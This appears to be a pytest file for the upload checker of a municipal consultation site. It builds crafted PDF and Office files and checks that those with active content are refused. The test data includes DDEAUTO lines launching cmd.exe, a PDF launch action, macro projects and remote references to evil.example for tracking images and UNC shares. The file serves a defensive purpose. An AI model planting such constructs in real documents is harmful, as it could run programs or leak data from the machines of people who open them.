"""Materials that carry code, programs or outside links are refused, and the message says what.

Every file here is a real document of its kind, made by tests/consultations/crafted_files.py.
"""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from consultations.demo import tiny_pdf
from consultations.uploads import check_material_file
from tests.consultations import crafted_files as crafted

AGAIN_AS_PDF = (
    "Proszę zapisać go ponownie jako zwykły PDF (np. poleceniem „Drukuj do PDF”) i dodać "
    "jeszcze raz."
)
WITHOUT_THEM = (
    "Proszę zapisać go bez nich (np. jako zwykły plik .docx, .xlsx lub PDF) i dodać jeszcze raz."
)
VBA_PROJECT = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
OLE_OBJECT = "application/vnd.openxmlformats-officedocument.oleObject"


def refusal(name, content) -> str:
    with pytest.raises(ValidationError) as refused:
        check_material_file(SimpleUploadedFile(name, content))
    return " ".join(refused.value.messages)


# --- PDF ------------------------------------------------------------------------------------


def script_run_on_opening(writer):
    writer.add_open_action(JavaScript("app.alert('otwarto');"))


def script_run_on_a_page(writer):
    writer.pages[0].add_action(PageTrigger("open"), JavaScript("app.alert('strona');"))


def program_launched_on_opening(writer):
    launch = crafted.action("/Launch", F=TextStringObject("cmd.exe"))
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(launch)


def attached_program(writer):
    writer.add_attachment("faktura.exe", b"MZ\x90\x00" + b"\x00" * 60)


def address_opened_by_itself(writer):
    visit = crafted.action("/URI", URI=TextStringObject("https://example.com/sledzenie"))
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(visit)


def xfa_form(writer):
    form = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp/>")}
    )
    writer.root_object[NameObject("/AcroForm")] = writer._add_object(form)


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (crafted.pdf(script_run_on_opening), "skrypty JavaScript"),
        (crafted.pdf(script_run_on_a_page), "skrypty JavaScript"),
        (crafted.pdf_with_compressed_script(), "skrypty JavaScript"),
        (crafted.pdf(program_launched_on_opening), "polecenie uruchomienia programu"),
        (crafted.pdf(attached_program), "osadzone pliki"),
        (crafted.pdf(address_opened_by_itself), "działania wykonywane samoczynnie przy otwarciu"),
        (crafted.pdf(xfa_form), "formularz XFA"),
    ],
    ids=["open-action", "page-action", "compressed-escaped", "launch", "attachment", "uri", "xfa"],
)
def test_a_pdf_with_active_content_is_refused_naming_what_it_holds(content, found):
    assert refusal("uchwala.pdf", content) == f"Plik PDF zawiera {found}. {AGAIN_AS_PDF}"


def test_a_script_hidden_in_a_compressed_object_stream_is_found_though_no_byte_spells_it():
    content = crafted.pdf_with_compressed_script()
    assert b"JavaScript" not in content
    assert b"/JS" not in content
    assert "skrypty JavaScript" in refusal("uchwala.pdf", content)


def test_everything_found_in_a_pdf_is_named_at_once():
    def both(writer):
        script_run_on_opening(writer)
        attached_program(writer)

    assert refusal("uchwala.pdf", crafted.pdf(both)) == (
        f"Plik PDF zawiera skrypty JavaScript i osadzone pliki. {AGAIN_AS_PDF}"
    )


def test_a_pdf_that_mentions_json_and_links_to_the_bip_is_accepted():
    def harmless(writer):
        writer.add_metadata({"/Subject": "Dane w formacie /JSON", "/JSON": "tak"})
        writer.add_uri(0, "https://bip.czestochowa.pl/", [50, 50, 200, 80])

    content = crafted.pdf(harmless)
    assert b"/JSON" in content
    assert check_material_file(SimpleUploadedFile("dane.pdf", content)) == "pdf"


def test_html_posing_as_a_pdf_is_refused():
    assert refusal("a.pdf", b"%PDF-<html><script>alert(1)</script></html>").startswith(
        "Nie można przyjąć tego pliku: jego zawartość nie jest dokumentem"
    )


def test_a_pdf_that_cannot_be_read_is_refused_with_its_own_message():
    assert refusal("a.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog") == (
        "Nie można odczytać tego pliku PDF: jest uszkodzony albo to nie jest PDF. Proszę "
        "zapisać go ponownie (np. poleceniem „Drukuj do PDF”) i dodać jeszcze raz."
    )


# --- Office ---------------------------------------------------------------------------------

DOCM = crafted.docx(
    parts={
        "word/vbaProject.bin": (
            "application/vnd.ms-office.vbaProject",
            crafted.compound_file(crafted.vba_project()),
        )
    },
    relationships=[("rId9", VBA_PROJECT, "vbaProject.bin", False)],
)


@pytest.mark.parametrize(
    ("name", "content", "found"),
    [
        ("uchwala.docx", DOCM, "makra VBA"),
        # The project renamed to look like a picture and left out of the content types.
        (
            "uchwala.docx",
            crafted.docx(
                parts={
                    "word/media/image1.png": (
                        "image/png",
                        crafted.compound_file(crafted.vba_project()),
                    )
                }
            ),
            "makra VBA",
        ),
        ("uchwala.doc", crafted.old_word(**crafted.vba_project("Macros")), "makra VBA"),
        ("budzet.xls", crafted.old_excel(**crafted.vba_project("_VBA_PROJECT_CUR")), "makra VBA"),
        ("budzet.xls", crafted.old_excel(macro_sheet=True), "makra Excel 4.0 (XLM)"),
        (
            "uchwala.docx",
            crafted.docx(
                parts={"word/embeddings/oleObject1.bin": (OLE_OBJECT, crafted.ole_package_object())}
            ),
            "osadzone obiekty innych programów (OLE)",
        ),
        (
            "uchwala.doc",
            crafted.old_word(**{"ObjectPool/_1234567/\x01Ole10Native": b"\x00"}),
            "osadzone obiekty innych programów (OLE)",
        ),
        (
            "uchwala.docx",
            crafted.docx(
                parts={
                    "word/activeX/activeX1.xml": ("application/vnd.ms-office.activeX+xml", b"<a/>")
                }
            ),
            "kontrolki ActiveX",
        ),
        (
            "uchwala.docx",
            crafted.docx(
                body='<w:p><w:r><w:object><o:OLEObject Type="Link" r:id="rId5"/></w:object>'
                "</w:r></w:p>",
                relationships=[
                    (
                        "rId5",
                        f"{crafted.RELATIONSHIPS}/oleObject",
                        "http://example.com/obiekt.sct",
                        True,
                    )
                ],
            ),
            "odwołania do zewnętrznych zasobów (oleObject: http://example.com/obiekt.sct)",
        ),
        (
            "uchwala.odt",
            crafted.odt({"Basic/Standard/Module1.xml": b"<module/>"}),
            "makra lub skrypty pakietu biurowego",
        ),
        (
            "uchwala.odt",
            crafted.odt(
                content='<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main'
                '?language=Basic&amp;location=application">Kliknij</text:a></text:p>'
            ),
            "makra lub skrypty pakietu biurowego",
        ),
    ],
    ids=[
        "docx-vba",
        "docx-renamed-vba",
        "doc-vba",
        "xls-vba",
        "xls-excel4",
        "docx-ole-package",
        "doc-object-pool",
        "docx-activex",
        "docx-external-ole-object",
        "odt-basic",
        "odt-script-link",
    ],
)
def test_an_office_file_with_active_content_is_refused_naming_what_it_holds(name, content, found):
    assert refusal(name, content) == f"Plik zawiera {found}. {WITHOUT_THEM}"


def test_a_word_file_with_a_remote_template_names_its_address():
    content = crafted.docx(
        relationships=[
            (
                "rId1",
                f"{crafted.RELATIONSHIPS}/attachedTemplate",
                "https://example.com/szablon.dotm",
                True,
            )
        ]
    )
    assert "(attachedTemplate: https://example.com/szablon.dotm)" in refusal("a.docx", content)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("uchwala.docx", crafted.docx()),
        (
            "uchwala.docx",
            crafted.docx(
                relationships=[
                    (
                        "rId5",
                        f"{crafted.RELATIONSHIPS}/hyperlink",
                        "https://bip.czestochowa.pl/",
                        True,
                    )
                ]
            ),
        ),
        ("uchwala.doc", crafted.old_word()),
        ("budzet.xls", crafted.old_excel()),
        ("uchwala.odt", crafted.odt()),
        ("uchwala.pdf", tiny_pdf(["Projekt"])),
    ],
    ids=["docx", "docx-with-a-link", "doc", "xls", "odt", "pdf"],
)
def test_ordinary_documents_still_pass(name, content):
    assert check_material_file(SimpleUploadedFile(name, content)) == name.rsplit(".", 1)[1]


def test_an_old_excel_5_book_stream_is_not_taken_for_a_spreadsheet():
    content = crafted.compound_file({"Book": crafted.workbook_stream()})
    assert refusal("a.xls", content).startswith("Nie można przyjąć tego pliku")


def chart_workbook(**parts) -> bytes:
    """A report with a chart: Word keeps the chart's data as a workbook inside the document."""
    workbook = crafted.zip_bytes(
        {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"} | parts
    )
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return crafted.docx(parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": (xlsx, workbook)})


def test_a_chart_s_workbook_inside_a_report_passes_and_is_checked_too():
    assert check_material_file(SimpleUploadedFile("raport.docx", chart_workbook())) == "docx"
    with_macros = chart_workbook(
        **{"xl/vbaProject.bin": crafted.compound_file(crafted.vba_project())}
    )
    assert refusal("raport.docx", with_macros) == f"Plik zawiera makra VBA. {WITHOUT_THEM}"


# --- Outside links and DDE (review of issue 7) ---------------------------------------------


def odt_frame(element: str, address: str) -> bytes:
    return crafted.odt(
        content=f'<text:p><draw:frame svg:width="1cm" svg:height="1cm"><{element} '
        f'xlink:href="{address}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'
        "</draw:frame></text:p>"
    )


def pdf_link(action):
    def change(writer):
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
                NameObject("/A"): action,
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return crafted.pdf(change)


@pytest.mark.parametrize(
    ("name", "content", "found"),
    [
        (
            "uchwala.docx",
            crafted.docx(
                body=crafted.word_field(
                    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
                )
            ),
            "polecenia DDE uruchamiające inne programy (DDEAUTO c:\\\\windows\\\\system32\\\\"
            'cmd.exe "/k calc.exe")',
        ),
        (
            "uchwala.docx",
            crafted.docx(
                body=crafted.simple_word_field(
                    "INCLUDEPICTURE &quot;http://evil.example/track.png&quot; \\d"
                )
            ),
            "odwołania do zewnętrznych zasobów (INCLUDEPICTURE: http://evil.example/track.png)",
        ),
        (
            "uchwala.docx",
            crafted.docx(body=crafted.word_field('INCLUDETEXT "\\\\\\\\evil.example\\\\x.docx"')),
            "odwołania do zewnętrznych zasobów (INCLUDETEXT: \\\\\\\\evil.example\\\\x.docx)",
        ),
        (
            "uchwala.docx",
            crafted.docx(
                body=crafted.word_field('LINK Excel.Sheet.8 "http://evil.example/a.xls" "A1" \\a')
            ),
            "odwołania do zewnętrznych zasobów (LINK: http://evil.example/a.xls)",
        ),
        (
            "uchwala.docx",
            crafted.docx(
                relationships=[
                    (
                        "rId9",
                        f"{crafted.RELATIONSHIPS}/oleObject",
                        "http://evil.example/x.rtf",
                        "external",
                    )
                ]
            ),
            "odwołania do zewnętrznych zasobów (oleObject: http://evil.example/x.rtf)",
        ),
        (
            "budzet.xlsx",
            crafted.xlsx_with_dde_link("cmd", "/c calc.exe"),
            "polecenia DDE uruchamiające inne programy (cmd /c calc.exe)",
        ),
        (
            "uchwala.odt",
            odt_frame("draw:image", "http://evil.example/track.png"),
            "odwołania do zewnętrznych zasobów (draw:image: http://evil.example/track.png)",
        ),
        (
            "uchwala.odt",
            odt_frame("draw:object", "file://evil.example/share/o"),
            "odwołania do zewnętrznych zasobów (draw:object: file://evil.example/share/o)",
        ),
        (
            "uchwala.odt",
            odt_frame("draw:image", "\\\\evil.example\\share\\a.png"),
            "odwołania do zewnętrznych zasobów (draw:image: \\\\evil.example\\share\\a.png)",
        ),
        (
            "uchwala.odt",
            crafted.odt(
                content='<text:section text:name="S"><text:section-source '
                'xlink:href="http://evil.example/x.odt" xlink:type="simple"/></text:section>'
            ),
            "odwołania do zewnętrznych zasobów (text:section-source: http://evil.example/x.odt)",
        ),
    ],
    ids=[
        "docx-ddeauto",
        "docx-includepicture",
        "docx-includetext-unc",
        "docx-link",
        "docx-ole-link-lower-case-mode",
        "xlsx-dde-link",
        "odt-remote-image",
        "odt-file-object",
        "odt-unc-image",
        "odt-linked-section",
    ],
)
def test_an_office_file_reaching_outside_or_to_a_program_is_refused_naming_it(name, content, found):
    assert refusal(name, content) == f"Plik zawiera {found}. {WITHOUT_THEM}"


@pytest.mark.parametrize(
    ("action", "found"),
    [
        (
            crafted.action("/URI", URI=TextStringObject("javascript:app.alert(1)")),
            "skrypty JavaScript",
        ),
        (
            crafted.action("/URI", URI=TextStringObject(" java\tscript:app.alert(1)")),
            "skrypty JavaScript",
        ),
        (
            crafted.action(
                "/GoToR",
                F=TextStringObject("\\\\evil.example\\share\\x.pdf"),
                D=ArrayObject([NumberObject(0), NameObject("/Fit")]),
            ),
            "odnośniki do plików spoza dokumentu (np. na dysku sieciowym)",
        ),
        (
            crafted.action("/URI", URI=TextStringObject("file://evil.example/share/x.pdf")),
            "odnośniki do plików spoza dokumentu (np. na dysku sieciowym)",
        ),
    ],
    ids=["javascript-uri", "javascript-uri-with-a-tab", "gotor-unc", "file-uri"],
)
def test_a_pdf_link_that_runs_a_script_or_reaches_a_network_file_is_refused(action, found):
    assert refusal("uchwala.pdf", pdf_link(action)) == f"Plik PDF zawiera {found}. {AGAIN_AS_PDF}"


def test_a_word_file_with_an_ordinary_link_and_page_numbers_passes():
    body = (
        '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>BIP</w:t></w:r></w:hyperlink></w:p>'
        + crafted.word_field('HYPERLINK "https://bip.czestochowa.pl/"')
        + crafted.simple_word_field("PAGE")
    )
    content = crafted.docx(
        body=body,
        relationships=[
            ("rId5", f"{crafted.RELATIONSHIPS}/hyperlink", "https://bip.czestochowa.pl/", True)
        ],
    )
    assert check_material_file(SimpleUploadedFile("uchwala.docx", content)) == "docx"


def test_an_opendocument_file_with_its_own_picture_object_and_a_link_passes():
    content = crafted.odt(
        {"Pictures/mapa.png": b"\x89PNG\r\n\x1a\n", "Object 1/content.xml": b"<a/>"},
        content=(
            '<text:p><draw:frame svg:width="1cm" svg:height="1cm"><draw:image '
            'xlink:href="Pictures/mapa.png" xlink:type="simple" xlink:show="embed"/></draw:frame>'
            '<draw:frame svg:width="1cm" svg:height="1cm"><draw:object xlink:href="./Object 1" '
            'xlink:type="simple" xlink:show="embed"/></draw:frame>'
            '<text:a xlink:href="https://bip.czestochowa.pl/">BIP</text:a></text:p>'
        ),
    )
    assert check_material_file(SimpleUploadedFile("uchwala.odt", content)) == "odt"


def test_a_pdf_with_web_and_mail_links_passes():
    def links(writer):
        writer.add_uri(0, "https://bip.czestochowa.pl/", [50, 50, 200, 80])
        writer.add_uri(0, "mailto:konsultacje@czestochowa.um.gov.pl", [50, 90, 200, 120])

    assert check_material_file(SimpleUploadedFile("uchwala.pdf", crafted.pdf(links))) == "pdf"
